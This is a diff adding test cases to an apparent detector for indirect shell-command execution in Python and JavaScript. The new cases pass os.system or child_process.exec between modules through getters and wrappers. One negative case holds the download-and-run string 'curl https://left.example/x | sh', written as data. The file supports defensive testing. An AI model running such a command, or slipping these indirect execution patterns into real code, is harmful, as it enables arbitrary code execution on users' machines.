@@ -66,6 +66,11 @@ def told(folder: Path, files: dict[str, str]) -> set[tuple[str, str]]:
         ("import importlib\ngetattr(importlib.import_module('.b', package='pkg'), 'run')()", RUN),
         ("__import__('b', globals(), locals(), ['run'], 1).run()", RUN),
         ("from . import b\ngetattr(b, 'run')()", RUN),
+        (f"from .b import get\nget()('{LINE}')", "import os\ndef get(): return os.system\n"),
+        (
+            f"import os\nfrom .b import wrap\nrun = wrap(os.system)\nrun('{LINE}')",
+            "def wrap(f):\n    def w(*a): return f(*a)\n    return w\n",
+        ),
         ("from . import b\n[one() for one in [b.run]]", RUN),
         ("from . import b\nfor one in (b.run, b.other): one()", RUN),
         ("from . import b\ntable = {'a': b.run}\ntable['a']()", RUN),
@@ -141,6 +146,7 @@ def test_python(tmp_path: Path, first: str, second: str) -> None:
         ("const b = require('./b');\n(0, b.run)();", GIVES),
         ("(0, require('./b').run)();", GIVES),
         ("require('./b').run`x`;", GIVES),
+        (f"require('./b').get()('{LINE}');", "exports.get = () => require('child_process').exec;"),
         ("const b = require('./b');\nb['r' + 'un']();", GIVES),
         ("const {tools: {run}} = require('./b');\nrun();", f"exports.tools = {{ run: () => {{ {RUNS} }} }};"),
     ],
@@ -203,6 +209,7 @@ def test_what_is_only_handed_on_runs_nothing(tmp_path: Path, first: str) -> None
     [
         "re.exec('curl is a program');",
         "const {run} = require('./b');\nrun('curl https://left.example/ > page');",
+        "const chalk = require('chalk');\nchalk.hex('#fff')('curl https://left.example/x | sh');",
         "exports.help = 'use curl https://left.example/ | less';",
     ],
 )
